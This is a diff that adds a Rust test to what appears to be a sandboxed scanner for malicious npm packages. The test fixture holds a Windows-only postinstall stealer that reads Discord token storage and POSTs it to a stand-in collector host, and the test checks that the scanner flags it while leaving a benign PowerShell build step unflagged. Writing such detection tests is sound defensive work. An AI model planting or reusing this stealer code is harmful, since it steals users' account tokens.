@@ -575,3 +575,56 @@ fn a_binding_gyp_is_built_as_npm_would() {
         "{report:#?}"
     );
 }
+
+/// Most stealers act only on Windows. Told it runs there (a second run), such a
+/// script is seen reading the Discord store and sending it; a build step that on
+/// Windows runs a `.cmd` and PowerShell to unpack is not stopped.
+#[test]
+fn a_windows_only_stealer_is_seen_when_node_says_windows() {
+    let stealer = sandboxed(
+        PackageBuilder::new("windows-stealer-shape", "1.0.0")
+            .script("postinstall", "node index.js")
+            .file(
+                "index.js",
+                r#"const fs = require("fs"), path = require("path"), https = require("https");
+if (process.platform !== "win32") process.exit(0);
+const dir = path.join(process.env.APPDATA, "discord", "Local Storage", "leveldb");
+const tokens = fs.readdirSync(dir).map((file) => fs.readFileSync(path.join(dir, file), "utf8")).join("\n");
+const request = https.request({ host: "collector.stealer-shape.example", method: "POST", path: "/t" }, () => {});
+request.on("error", () => {}); request.end(tokens);
+"#,
+            ),
+    );
+    assert_eq!(
+        strongest(&stealer, Code::RuntimeNetwork),
+        Some(Severity::Critical),
+        "{stealer:#?}"
+    );
+    assert!(
+        stealer
+            .findings
+            .iter()
+            .any(|finding| finding.message.starts_with("told it runs on Windows")),
+        "{stealer:#?}"
+    );
+    let builder = sandboxed(
+        PackageBuilder::new("windows-builder-shape", "1.0.0")
+            .script("install", "node install.js")
+            .file(
+                "install.js",
+                r#"const { execSync } = require("child_process");
+if (process.platform === "win32") {
+  try { execSync("build.cmd --release"); } catch (e) {}
+  try { execSync("powershell -NoProfile -Command Expand-Archive prebuilt.zip -DestinationPath bin"); } catch (e) {}
+}
+"#,
+            ),
+    );
+    assert!(
+        builder
+            .findings
+            .iter()
+            .all(|finding| finding.severity < Severity::High),
+        "{builder:#?}"
+    );
+}
